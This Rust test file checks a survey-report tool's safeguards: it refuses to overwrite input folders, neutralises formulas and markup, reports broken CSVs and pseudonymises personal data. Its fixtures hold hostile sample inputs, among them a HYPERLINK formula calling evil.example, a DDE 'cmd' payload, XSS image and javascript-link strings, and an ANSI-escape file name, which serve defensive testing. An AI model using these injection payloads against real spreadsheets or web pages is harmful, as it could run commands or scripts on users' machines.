//! Nothing lost, nothing leaked (issue 26): a run never deletes what it did not write, one run
//! at a time per `--out`, no formula and no markup from the data, no silent loss of a broken
//! CSV, skipped files recorded, report folders not read as exports, and `--hash-ids` keeps
//! personal data out of every output.

mod common;

use std::path::{Path, PathBuf};

use common::*;

/// The hostile small study: ids, answers, channels and a sheet of text that a spreadsheet
/// would run, personal data in several columns, and a config for it.
const CONFIG: &str = r#"
[report]
title = "[x](javascript:alert(1)) <img src=x onerror=alert(1)>"
min_base = 2

[fields.respondent_id]
headers = ["id"]

[fields.relationship]
headers = ["relationship"]

[fields.recommend]
kind = "number"
scale = [0, 10]
headers = ["recommend"]

[fields.ip]
headers = ["ip"]

[fields.name]
headers = ["name"]

[fields.channels_used]
kind = "multi"
separator = ";"
headers = ["channels"]

[fields.why]
headers = ["why"]

[fields.weight]
kind = "number"
headers = ["weight"]

[stages]
labels = { client = "<b>Clients</b>" }

[[stages.rules]]
name = "current client"
stage = "client"
when = { field = "relationship", equals = "Current client" }

[[stages.rules]]
name = "past client"
stage = "former"
when = { field = "relationship", equals = "Past client" }

[channels]
used = "channels_used"
threshold = 0.2

[channels.plan.client]
"LinkedIn" = true

[[themes]]
field = "why"
name = "speed"
keywords = ["fast"]
"#;

/// Ten rows: formula-like ids and answers, a tab before a formula, personal data, a weight of
/// −1 and a row no rule places (its values in the reason).
fn exports_csv() -> String {
    let mut s = String::from("id,relationship,recommend,ip,name,channels,why,weight\n");
    let rows = [
        "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\"),Current client,9,203.0.113.86,Nguyen,=cmd|' /C calc'!A0;LinkedIn,fast and kind,1",
        "\"\t=1+1\",Current client,8,203.0.113.87,Okafor,@SUM(A1);LinkedIn,=2+2 was fast,1",
        "+441234,Current client,10,203.0.113.88,Silva,<img src=x onerror=alert(1)>;LinkedIn,Ana Lima answered fast,1",
        "-5,Current client,7,203.0.113.89,Tanaka,[x](javascript:alert(1));LinkedIn,fast,1",
        "r5,Current client,9,203.0.113.90,Ivanova,LinkedIn,slow,-1",
        "r6,Past client,3,203.0.113.91,Kowalski,LinkedIn,slow,1",
        "r7,Past client,4,203.0.113.92,Haddad,Search,never fast,1",
        "r8,Vendor,5,203.0.113.86,Nguyen,Search,unsure,1",
        "r9,Current client,6,203.0.113.93,ana.lima@example.com,LinkedIn,ok,1",
        "r10,Current client,9,203.0.113.94,Moreau,LinkedIn,fast,1",
    ];
    for r in rows {
        s.push_str(r);
        s.push('\n');
    }
    s
}

/// `dir/exports/answers.csv` and `dir/journeygap.toml`.
fn hostile_study(dir: &Path) {
    let exports = dir.join("exports");
    std::fs::create_dir_all(&exports).unwrap();
    std::fs::write(exports.join("answers.csv"), exports_csv()).unwrap();
    std::fs::write(dir.join("journeygap.toml"), CONFIG).unwrap();
}

fn run_in(dir: &Path, extra: &[&str]) -> assert_cmd::assert::Assert {
    run_exports_with(dir, "2026Q1", extra)
}

/// The hostile study in a new folder, run once with `extra`, which must succeed.
fn hostile_run(extra: &[&str]) -> tempfile::TempDir {
    let tmp = tempfile::tempdir().unwrap();
    hostile_study(tmp.path());
    run_in(tmp.path(), extra).success();
    tmp
}

fn stderr(a: assert_cmd::assert::Assert) -> String {
    String::from_utf8_lossy(&a.get_output().stderr).into_owned()
}

/// Every file the period folder holds, as text, by name.
fn outputs(period: &Path) -> Vec<(String, String)> {
    journeygap::ingest::walk_all(period)
        .into_iter()
        .filter(|p| {
            !p.to_string_lossy().ends_with(".png") && !p.to_string_lossy().ends_with(".xlsx")
        })
        .map(|p| {
            let name = p.strip_prefix(period).unwrap().display().to_string();
            (
                name,
                String::from_utf8_lossy(&std::fs::read(&p).unwrap()).into_owned(),
            )
        })
        .collect()
}

fn demo() -> PathBuf {
    root().join("fixtures/demo")
}

/// The layout of one folder per quarter holding the exports, with `--out` the parent: before,
/// the run replaced `q/2026Q1` (the exports) with its report.
#[test]
fn exports_in_the_period_folder_of_out_survive() {
    let tmp = tempfile::tempdir().unwrap();
    let q = tmp.path().join("q");
    copy_dir(&demo().join("2026Q1"), &q.join("2026Q1"));
    let before = snapshot(&q);
    let err =
        stderr(run_with(&q.join("2026Q1"), &demo().join("journeygap.toml"), &q, &[]).failure());
    assert!(err.contains("holds the input folder"), "{err}");
    assert!(snapshot(&q) == before, "the exports are as they were");
    // An --out inside the exports is refused too.
    let err = stderr(
        run_with(
            &q.join("2026Q1"),
            &demo().join("journeygap.toml"),
            &q.join("2026Q1/reports"),
            &[],
        )
        .failure(),
    );
    assert!(err.contains("lies inside the input folder"), "{err}");
    assert!(snapshot(&q) == before);
}

#[test]
fn a_hand_made_period_folder_survives() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("reports");
    std::fs::create_dir_all(out.join("2026Q1")).unwrap();
    std::fs::write(out.join("2026Q1/notes.docx"), b"the partner's notes").unwrap();
    let err = stderr(
        run_with(
            &demo().join("2026Q1"),
            &demo().join("journeygap.toml"),
            &out,
            &[],
        )
        .failure(),
    );
    assert!(err.contains("which journeygap did not write"), "{err}");
    assert!(err.contains("reports/2026Q1"), "{err}");
    assert_eq!(
        std::fs::read(out.join("2026Q1/notes.docx")).unwrap(),
        b"the partner's notes"
    );
    // A period journeygap wrote is replaced as before.
    run_with(
        &demo().join("2026Q2"),
        &demo().join("journeygap.toml"),
        &out,
        &[],
    )
    .success();
    run_with(
        &demo().join("2026Q2"),
        &demo().join("journeygap.toml"),
        &out,
        &[],
    )
    .success();
}

/// While one run holds `--out`, a second is refused with a message and changes nothing.
#[test]
fn a_second_run_into_one_out_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("reports");
    run_with(
        &demo().join("2026Q1"),
        &demo().join("journeygap.toml"),
        &out,
        &[],
    )
    .success();
    let before = snapshot(&out);
    let lock = std::fs::File::create(out.join(".journeygap.lock")).unwrap();
    lock.try_lock().unwrap(); // as a running run holds it
    let err = stderr(
        run_with(
            &demo().join("2026Q1"),
            &demo().join("journeygap.toml"),
            &out,
            &[],
        )
        .failure(),
    );
    assert!(err.contains("another journeygap run is writing"), "{err}");
    assert!(snapshot(&out) == before);
    drop(lock);
    run_with(
        &demo().join("2026Q1"),
        &demo().join("journeygap.toml"),
        &out,
        &[],
    )
    .success();
}

/// No CSV cell of any output starts a formula, and leading tabs are kept as data.
#[test]
fn no_formula_from_data_in_any_csv() {
    let tmp = hostile_run(&[]);
    let tables = tmp.path().join("out/2026Q1/tables");
    let mut checked = 0;
    for path in journeygap::ingest::walk_all(&tables) {
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_path(&path)
            .unwrap();
        for rec in r.records() {
            for cell in rec.unwrap().iter() {
                checked += 1;
                let live = matches!(cell.as_bytes().first(), Some(b'=' | b'@' | b'\t' | b'\r'))
                    || (matches!(cell.as_bytes().first(), Some(b'+' | b'-'))
                        && cell.parse::<f64>().is_err());
                assert!(!live, "{}: {cell:?} would run as a formula", path.display());
            }
        }
    }
    assert!(checked > 100);
    let respondents = std::fs::read_to_string(tables.join("respondents.csv")).unwrap();
    assert!(respondents.contains("'=HYPERLINK"), "{respondents}");
    // Numbers stay numbers.
    assert!(
        respondents.contains(",+441234,") && respondents.contains(",-5,"),
        "{respondents}"
    );
    let touch = std::fs::read_to_string(tables.join("touchpoints.csv")).unwrap();
    assert!(
        touch.contains("'@SUM(A1)") && touch.contains("'=cmd"),
        "{touch}"
    );
}

/// A channel, a stage label and a title from the data are text in `report.md`, never an
/// image, a link or a tag.
#[test]
fn no_markup_from_data_in_report_md() {
    let tmp = hostile_run(&[]);
    let md = std::fs::read_to_string(tmp.path().join("out/2026Q1/report.md")).unwrap();
    assert!(!md.contains("<img") && !md.contains("<b>"), "{md}");
    assert!(!md.contains("](javascript"), "{md}");
    assert!(md.contains("&lt;b&gt;Clients&lt;/b&gt;"), "{md}");
    let html = std::fs::read_to_string(tmp.path().join("out/2026Q1/report.html")).unwrap();
    assert!(!html.contains("<img src=x") && !html.contains("<b>Clients"));
}

/// An unterminated quote in row 10 of a 100-row CSV: before, "11 rows read" and exit 0.
#[test]
fn an_unterminated_quote_stops_run_and_check_naming_the_line() {
    let tmp = tempfile::tempdir().unwrap();
    hostile_study(tmp.path());
    let mut text = String::from("id,relationship,recommend,why\n");
    for i in 1..=100 {
        let why = if i == 10 {
            "\"it opens and never closes"
        } else {
            "fine"
        };
        text.push_str(&format!("q{i},Current client,9,{why}\n"));
    }
    std::fs::write(tmp.path().join("exports/broken.csv"), text).unwrap();
    let err = stderr(run_in(tmp.path(), &[]).failure());
    assert!(
        err.contains("broken.csv: line 11: a quote opens a cell and is never closed"),
        "{err}"
    );
    assert!(
        !tmp.path().join("out").exists(),
        "nothing written, not even a folder"
    );
    let out = check_exports_assert(tmp.path()).failure();
    let said = String::from_utf8_lossy(&out.get_output().stdout).into_owned()
        + &String::from_utf8_lossy(&out.get_output().stderr);
    assert!(
        said.contains("broken.csv") && said.contains("line 11"),
        "{said}"
    );
}

/// `--skip-bad-files` records the file and why in data_quality.csv, summary.json and the report.
#[test]
fn skipped_files_are_recorded() {
    let tmp = tempfile::tempdir().unwrap();
    hostile_study(tmp.path());
    std::fs::write(
        tmp.path().join("exports/broken.xlsx"),
        b"PK\x03\x04 not a workbook",
    )
    .unwrap();
    run_in(tmp.path(), &["--skip-bad-files"]).success();
    let period = tmp.path().join("out/2026Q1");
    let dq = read_csv(&period.join("tables/data_quality.csv"));
    let row = dq
        .iter()
        .find(|r| r["source_file"] == "broken.xlsx")
        .expect("a row");
    assert_eq!(row["layout"], "skipped");
    assert!(
        row["skipped_reason"].contains("not a readable workbook"),
        "{row:?}"
    );
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(period.join("summary.json")).unwrap()).unwrap();
    assert_eq!(json["skipped_files"][0]["source_file"], "broken.xlsx");
    let md = std::fs::read_to_string(period.join("report.md")).unwrap();
    assert!(
        md.contains("Skipped, unreadable") && md.contains("broken.xlsx"),
        "{md}"
    );
}

/// A period folder copied into the exports is skipped with a warning, not read as 6,666 rows.
#[test]
fn a_report_folder_in_the_exports_is_not_read() {
    let tmp = hostile_run(&[]);
    let rows = |dir: &Path| -> u64 {
        read_csv(&dir.join("out/2026Q1/tables/data_quality.csv"))
            .iter()
            .map(|r| r["rows_read"].parse::<u64>().unwrap())
            .sum()
    };
    let alone = rows(tmp.path());
    copy_dir(
        &tmp.path().join("out/2026Q1"),
        &tmp.path().join("exports/last quarter"),
    );
    let err = stderr(run_in(tmp.path(), &[]).success());
    assert!(
        err.contains("last quarter: skipped, a journeygap report folder"),
        "{err}"
    );
    assert_eq!(rows(tmp.path()), alone);
}

/// With `--hash-ids`, no e-mail, name or IP address of the exports reaches any output; the
/// reasons name fields and pseudonyms; the uncoded words are left out.
#[test]
fn hashed_ids_leak_no_personal_data() {
    let tmp = hostile_run(&["--hash-ids"]);
    let period = tmp.path().join("out/2026Q1");
    let personal = [
        "203.0.113.86",
        "203.0.113.90",
        "Nguyen",
        "Kowalski",
        "ana.lima@example.com",
        "Ana Lima",
    ];
    for (name, text) in outputs(&period) {
        for p in personal {
            assert!(!text.contains(p), "{name} holds {p}");
        }
    }
    let respondents = read_csv(&period.join("tables/respondents.csv"));
    let vendor = respondents.iter().find(|r| r["row"] == "9").unwrap();
    assert!(
        vendor["reason"].contains("relationship = \"h"),
        "{vendor:?}"
    );
    // Without --hash-ids the values are there (the test can fail).
    run_in(tmp.path(), &[]).success();
    let all: String = outputs(&period).into_iter().map(|(_, t)| t).collect();
    assert!(all.contains("Vendor") || all.contains("r8"));
}

/// The pseudonyms are keyed: another secret gives other ones, and neither is the bare SHA-256.
#[test]
fn pseudonyms_depend_on_the_secret() {
    let tmp = tempfile::tempdir().unwrap();
    hostile_study(tmp.path());
    let ids = |secret: &str| -> Vec<String> {
        run_exports_keyed(tmp.path(), "2026Q1", &["--hash-ids"], Some(secret)).success();
        read_csv(&tmp.path().join("out/2026Q1/tables/respondents.csv"))
            .iter()
            .map(|r| r["respondent_id"].clone())
            .collect()
    };
    let a = ids("the first secret of this test");
    let b = ids("the second secret of this test");
    assert_ne!(a, b);
    let bare = format!("h{}", &journeygap::ingest::sha256_hex(b"r5")[..16]);
    assert!(!a.contains(&bare) && !b.contains(&bare));
    // No secret at all: refused before anything is read.
    let out = run_exports_keyed(tmp.path(), "2026Q1", &["--hash-ids"], None).failure();
    let err = String::from_utf8_lossy(&out.get_output().stderr).into_owned();
    assert!(err.contains("--hash-ids needs a secret"), "{err}");
}

/// `init` writes a random secret and no e-mail, phone number or IP address as a sample.
#[test]
fn init_writes_no_personal_data_into_the_config() {
    let tmp = tempfile::tempdir().unwrap();
    hostile_study(tmp.path());
    let mut text = String::from("Email,Phone,IP,Relationship,Recommend\n");
    for i in 0..30 {
        text.push_str(&format!(
            "person{i}@example.com,+44 20 7946 {:04},198.51.100.{i},Current client,{}\n",
            1000 + i,
            i % 11
        ));
    }
    let folder = tmp.path().join("contacts");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join("survey.csv"), text).unwrap();
    journeygap()
        .arg("init")
        .arg(&folder)
        .arg("--quiet")
        .assert()
        .success();
    let config = std::fs::read_to_string(folder.join("journeygap.toml")).unwrap();
    assert!(!config.contains("@example.com"), "{config}");
    assert!(!config.contains("198.51.100."), "{config}");
    assert!(!config.contains("7946"), "{config}");
    let secret = config
        .lines()
        .find_map(|l| l.strip_prefix("secret = \""))
        .expect("a secret");
    assert_eq!(secret.trim_end_matches('"').len(), 64, "{secret}");
}

/// A weight of −1 is a counted bad cell, not a silent 0.
#[test]
fn a_negative_weight_is_a_counted_bad_cell() {
    let tmp = hostile_run(&[]);
    let problems = read_csv(&tmp.path().join("out/2026Q1/tables/cell_problems.csv"));
    let w = problems
        .iter()
        .find(|p| p["field"] == "weight")
        .expect("the weight's problem");
    assert_eq!(w["count"], "1");
    assert!(w["examples"].contains("-1"), "{w:?}");
}

/// A file name with an ANSI escape is shown, not obeyed; a FIFO is not a regular file; a
/// config error on a 500 KB line quotes at most a line of it.
#[test]
fn small_ones() {
    let tmp = tempfile::tempdir().unwrap();
    hostile_study(tmp.path());
    std::fs::write(
        tmp.path().join("exports/\u{1b}[31mred.xlsx"),
        b"PK\x03\x04 junk",
    )
    .unwrap();
    let err = stderr(run_in(tmp.path(), &[]).failure());
    assert!(
        !err.contains('\u{1b}') && err.contains("\\u{1b}[31mred.xlsx"),
        "{err:?}"
    );
    std::fs::remove_file(tmp.path().join("exports/\u{1b}[31mred.xlsx")).unwrap();
    #[cfg(unix)]
    {
        let fifo = tmp.path().join("exports/pipe.csv");
        let made = std::process::Command::new("mkfifo").arg(&fifo).status();
        if made.is_ok_and(|s| s.success()) {
            let err = stderr(run_in(tmp.path(), &[]).failure());
            assert!(err.contains("pipe.csv: not a regular file"), "{err}");
            std::fs::remove_file(&fifo).unwrap();
        }
    }
    let long = format!("{CONFIG}\ntitle2 = \"{}\" x\n", "a".repeat(500_000));
    std::fs::write(tmp.path().join("journeygap.toml"), long).unwrap();
    let err = stderr(run_in(tmp.path(), &[]).failure());
    assert!(err.len() < 2_000, "{} bytes of message", err.len());
    assert!(err.contains("journeygap.toml, line "), "{err}");
}
